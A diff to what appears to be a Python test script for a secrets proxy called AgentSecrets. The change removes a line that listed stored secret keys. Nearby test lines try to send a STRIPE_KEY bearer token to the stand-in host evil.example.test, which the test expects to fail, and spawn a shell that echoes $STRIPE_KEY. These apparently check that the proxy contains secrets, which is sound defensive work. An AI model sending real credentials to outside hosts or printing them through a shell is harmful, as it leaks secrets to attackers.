@@ -56,6 +56,5 @@ kh = AgentSecrets()
 note("call", kh.call(f"{base}/as/body", method="POST", body={"a": 1}, body_field={"auth.api_key": "STRIPE_KEY"}))
 failed("call elsewhere", lambda: kh.call("https://evil.example.test/x", bearer="STRIPE_KEY"))
 said["spawn"] = kh.spawn(["sh", "-c", "echo $STRIPE_KEY; exit 3"]).__dict__
-said["secrets"] = [each.key for each in kh.secrets.list()]
 said["logs"] = [[e.status_code, e.status, e.reason, e.target_url] for e in kh.proxy.logs(last=3)]
 print(json.dumps(said))
